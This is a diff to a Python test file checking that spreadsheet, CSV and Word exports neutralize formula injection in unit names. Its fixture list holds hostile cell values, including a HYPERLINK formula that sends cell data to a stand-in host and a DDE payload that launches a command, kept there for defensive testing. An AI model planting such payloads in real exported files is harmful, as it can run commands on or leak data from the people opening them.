@@ -7,9 +7,10 @@ import zipfile
 import openpyxl
 import pytest
 
-from analysis.outputs.xlsx import appendix_xlsx, summary_xlsx, units_table_csv, units_table_xlsx
 from analysis.figures import compute
+from analysis.outputs.csv import units_table_csv
 from analysis.outputs.safety import neutralize_formula, safe_filename
+from analysis.outputs.xlsx import appendix_xlsx, summary_xlsx, units_table_xlsx
 from tests.support.frames import frame_from
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0",
@@ -20,7 +21,8 @@ HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1
 def frame():
     recs = []
     for i, name in enumerate(HOSTILE + ["Phòng Nội vụ"]):
-        recs.append({"period": "2021-03", "unit": name, "block": "department" if i % 2 else "commune",
+        recs.append({"period": "2021-03", "unit": name,
+                     "block": "department" if i % 2 else "commune",
                      "district": HOSTILE[i % len(HOSTILE)], "sent": 10 + i, "signed": 5 + i})
     return frame_from(recs)
 
@@ -75,7 +77,8 @@ def test_units_csv_prefixes_formula_text_with_a_quote(summary):
         assert "'" + h in cells, h
         assert h not in cells, h
     assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
-    assert not any(c.startswith("-") and not c.lstrip("-").replace(",", "").replace(".", "").isdigit()
+    assert not any(c.startswith("-")
+                   and not c.lstrip("-").replace(",", "").replace(".", "").isdigit()
                    for c in cells)
 
 
@@ -86,7 +89,8 @@ def test_letter_docx_holds_the_names_as_plain_text(frame):
     with zipfile.ZipFile(io.BytesIO(data)) as z:
         xml = z.read("word/document.xml").decode("utf-8")
     assert "instrText" not in xml and "fldSimple" not in xml and "DDE" not in xml
-    assert "HYPERLINK(&quot;http://example.invalid" in xml or 'HYPERLINK("http://example.invalid' in xml
+    assert ("HYPERLINK(&quot;http://example.invalid" in xml
+            or 'HYPERLINK("http://example.invalid' in xml)
 
 
 def test_pandas_fallback_to_excel_would_keep_text(frame):
